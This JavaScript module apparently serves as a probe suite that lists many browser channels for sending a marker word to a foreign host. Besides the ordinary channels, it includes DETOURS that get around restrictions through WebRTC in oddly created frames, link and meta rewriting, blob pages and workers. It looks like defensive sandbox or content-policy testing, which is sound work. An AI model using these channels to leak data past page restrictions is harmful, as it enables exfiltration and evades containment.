// The ways in which a page can send something, each as a function that runs in the page and tries
// to. `to` is an address of a foreign host with the word in it, `host` that host, `own` the page's
// own folder. A channel that is closed may throw.

export const CHANNELS = {
  fetch: ({ to }) => void fetch(to, { mode: "no-cors" }).catch(() => 0),
  XMLHttpRequest: ({ to }) => {
    const request = new XMLHttpRequest();
    request.open("GET", to);
    request.send();
  },
  WebSocket: ({ host, word }) => void new WebSocket(`ws://${host}/${word}`),
  EventSource: ({ to }) => void new EventSource(to),
  beacon: ({ to, word }) => void navigator.sendBeacon(to, word),
  image: ({ to }) => {
    new Image().src = to;
  },
  script: ({ to }) => {
    const script = document.createElement("script");
    script.src = to;
    document.head.append(script);
  },
  "import()": ({ to }) => void import(to).catch(() => 0),
  prefetch: ({ to }) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "prefetch", href: to });
    document.head.append(link);
  },
  preconnect: ({ to }) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "preconnect", href: to });
    document.head.append(link);
  },
  "CSS url": ({ to }) => {
    document.body.style.backgroundImage = `url("${to}")`;
    document.body.getBoundingClientRect();
  },
  ping: ({ to }) => {
    const link = document.createElement("a");
    Object.assign(link, { ping: to, href: "#/" });
    document.body.append(link);
    link.click();
    link.remove();
  },
  font: ({ to }) => void new FontFace("probe", `url("${to}")`).load().catch(() => 0),
  media: ({ to }) => {
    const media = document.createElement("audio");
    media.src = to;
    media.load();
  },
  stylesheet: ({ to }) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "stylesheet", href: to });
    document.head.append(link);
  },
  "fetch in a worker from a blob": ({ to }) => {
    const text = `fetch(${JSON.stringify(to)}, { mode: "no-cors" }).catch(() => 0)`;
    void new Worker(URL.createObjectURL(new Blob([text])));
  },
  "worker by address": ({ own, word }) => void new Worker(`${own}worker.js?${word}`),
  "top navigation": ({ to }) => {
    location.href = to;
  },
  popup: ({ to }) => void window.open(to),
  WebRTC: async ({ host }) => {
    const [name, port] = host.split(":");
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${name}:${port}` }] });
    peer.createDataChannel("probe");
    await peer.setLocalDescription(await peer.createOffer());
  },
  form: ({ to }) => {
    const form = document.createElement("form");
    Object.assign(form, { action: to, method: "post" });
    document.body.append(form);
    form.submit();
  },
  iframe: ({ to }) => {
    const frame = document.createElement("iframe");
    frame.src = to;
    document.body.append(frame);
  },
};

// Their siblings: other names, other ways to the same end, and the page's own site.
export const DETOURS = {
  "WebRTC by its other name": async ({ host }) => {
    const peer = new webkitRTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel("probe");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "WebRTC of a frame's window": async ({ host }) => {
    const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe");
    document.body.append(frame);
    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel("probe");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "WebRTC of a frame made from text": async ({ host }) => {
    const box = document.createElement("div");
    box.innerHTML = "<iframe></iframe>";
    document.body.append(box);
    const peer = new box.firstChild.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel("probe");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "WebRTC of a frame in a document of its own": async ({ host }) => {
    const made = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe");
    const frame = document.adoptNode(made.documentElement);
    document.body.append(frame);
    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel("probe");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "WebRTC of a frame of another name": async ({ host }) => {
    class Frame extends HTMLIFrameElement {}
    customElements.define("x-frame", Frame, { extends: "iframe" });
    const frame = new Frame();
    document.body.append(frame);
    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel("probe");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "a lookup of a name": ({ word }) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "dns-prefetch", href: `//${word}.example` });
    document.head.append(link);
  },
  // To a port of its own: a connection that is there already would be kept, and none opened.
  "preconnect by a link that is there": ({ host, word }) => {
    const link = document.querySelector("link[rel=icon]");
    Object.assign(link, { rel: "preconnect", href: `http://${host.split(":")[0]}:81/${word}` });
  },
  "a lookup by the attributes of a link that is there": ({ word }) => {
    const link = document.querySelector("link[rel=icon]");
    link.getAttributeNode("rel").value = "dns-prefetch";
    link.getAttributeNode("href").textContent = `//${word}.example`;
  },
  "a lookup by the words of a link that is there": ({ word }) => {
    const link = document.querySelector("link[rel=icon]");
    link.relList.add("dns-prefetch");
    link.setAttribute("href", `//${word}.example`);
  },
  "a lookup by a stylesheet's link": ({ word }) => {
    const link = document.querySelector("link[rel=stylesheet]");
    Object.assign(link, { rel: "dns-prefetch", href: `//${word}.example` });
  },
  "a refresh by an element that is there": ({ to }) => {
    const meta = document.querySelector("meta[name=description]");
    Object.assign(meta, { httpEquiv: "refresh", content: `0;url=${to}` });
  },
  "a click on a link": ({ to }) => {
    const link = document.createElement("a");
    link.href = to;
    link.click();
  },
  "a made-up click on a link to a new window": ({ to }) => {
    const link = document.createElement("a");
    Object.assign(link, { href: to, target: "_blank" });
    link.append(document.createElement("span"));
    link.firstChild.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a click on a link in a drawing": ({ to }) => {
    const link = document.createElementNS("http://www.w3.org/2000/svg", "a");
    link.setAttribute("href", to);
    document.body.append(link);
    link.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a view in a new window": () => {
    const link = document.createElement("a");
    Object.assign(link, { href: "#/about", target: "_blank" });
    document.body.append(link);
    link.click();
    link.remove();
  },
  "a link within a link": ({ to }) => {
    const link = document.createElement("a");
    Object.assign(link, { href: to, target: "_blank" });
    const inner = document.createElement("b");
    inner.setAttribute("href", "#/");
    link.append(inner);
    inner.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a download of a link": ({ to }) => {
    const link = document.createElement("a");
    Object.assign(link, { href: to, download: "x" });
    document.body.append(link);
    link.click();
  },
  "location.replace": ({ to }) => location.replace(to),
  "the navigation API": ({ to }) => void navigation.navigate(to),
  "a reload under another address": ({ word }) => {
    history.replaceState(null, "", `?${word}`);
    location.reload();
  },
  "a page made of a blob": ({ to }) => {
    const text = `<script>new Image().src = ${JSON.stringify(to)}</script>`;
    location.href = URL.createObjectURL(new Blob([text], { type: "text/html" }));
  },
  "a refresh": ({ to }) => {
    const meta = document.createElement("meta");
    Object.assign(meta, { httpEquiv: "refresh", content: `0;url=${to}` });
    document.head.append(meta);
  },
  "WebTransport": ({ host }) => void new WebTransport(`https://${host}/`).closed.catch(() => 0),
  "fetch of the own site": ({ own, word }) => void fetch(`${own}index.html?${word}`).catch(() => 0),
  "import() of the own site": ({ own, word }) => void import(`${own}worker.js?${word}`).catch(() => 0),
  "importScripts in a worker": ({ own, word }) => {
    const text = `importScripts(${JSON.stringify(`${own}worker.js?${word}`)})`;
    new Worker(URL.createObjectURL(new Blob([text]))).onerror = (event) => event.preventDefault();
  },
  "a service worker": ({ own, word }) =>
    void navigator.serviceWorker.register(`${own}worker.js?${word}`).catch(() => 0),
};
